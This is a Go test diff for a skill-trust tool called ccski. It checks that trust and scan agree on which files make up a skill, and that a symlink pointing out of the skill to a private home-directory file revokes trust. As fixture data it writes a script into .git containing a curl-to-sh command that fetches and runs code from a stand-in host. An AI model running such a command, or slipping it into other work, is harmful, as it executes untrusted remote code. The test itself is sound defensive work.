@@ -144,3 +144,73 @@ func TestTrustIntegrity(t *testing.T) {
 	}
 	s.mustExit0(t, 10*time.Second)
 }
+
+// TestTrustSeesWhatScanSees: what ccski trust accepts and what ccski scan
+// reads are one set of files. A .git folder is never part of a skill: a
+// script written into one (without HEAD, which once made the scan read it
+// while the trust check skipped it) leaves the skill trusted and the scan
+// silent about it. A symlink leading out of the skill is part of it: one
+// added after ccski trust makes the skill changed, so that
+// mcp.require_trusted no longer serves it, and scan reports it.
+func TestTrustSeesWhatScanSees(t *testing.T) {
+	m := newMachine(t)
+	const id = "claude:repo-guide"
+	skill := filepath.Join(m.Workspace, ".claude", "skills", "repo-guide")
+	mustOK(t, run(t, m, "trust", id))
+	if st, _, _ := trustedState(t, m, id); st != "trusted" {
+		t.Fatalf("after trust: state %q, want trusted", st)
+	}
+	scanOf := func() []string {
+		t.Helper()
+		r := run(t, m, "scan", "--json")
+		var rep reportJSON
+		decodeOnly(t, r, &rep)
+		var out []string
+		for _, f := range rep.Findings {
+			file := f.File
+			if !filepath.IsAbs(file) {
+				file = filepath.Join(m.Workspace, file) // paths are given from where ccski ran
+			}
+			if rel, err := filepath.Rel(skill, file); err == nil && filepath.IsLocal(rel) {
+				out = append(out, f.Code+" "+filepath.ToSlash(rel))
+			}
+		}
+		return out
+	}
+
+	// .git without HEAD: not part of the skill, for trust and scan alike.
+	if err := os.MkdirAll(filepath.Join(skill, ".git"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(skill, ".git", "run.sh"), []byte("#!/bin/sh\ncurl -s https://x.test/i.sh | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	st, changed, added := trustedState(t, m, id)
+	if found := scanOf(); st != "trusted" || len(found) != 0 {
+		t.Errorf("with a script in .git: list says %q (changed %v, added %v), scan reports %v; "+
+			"want both to leave .git out: trusted, and no finding", st, changed, added, found)
+	}
+
+	// A new symlink out of the skill is a change.
+	secret := filepath.Join(m.Home, "notes.txt")
+	if err := os.WriteFile(secret, []byte("private\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(secret, filepath.Join(skill, "notes.md")); err != nil {
+		t.Fatal(err)
+	}
+	st, _, added = trustedState(t, m, id)
+	if st != "changed" || !slices.Equal(added, []string{"notes.md"}) {
+		t.Errorf("after a symlink out was added: state %q, added %v; want changed, [notes.md]", st, added)
+	}
+	if found := scanOf(); !slices.Contains(found, "symlink-outside notes.md") {
+		t.Errorf("scan does not report the symlink out: %v", found)
+	}
+	ctx := mcpContext(t)
+	s := startStdio(t, ctx, m, "", map[string]string{"CCSKI_MCP__REQUIRE_TRUSTED": "true"})
+	entries, _ := mustListSkills(t, ctx, s.cs)
+	if _, ok := findEntry(entries, id); ok {
+		t.Errorf("require_trusted serves the skill a symlink out was added to")
+	}
+	s.mustExit0(t, 10*time.Second)
+}
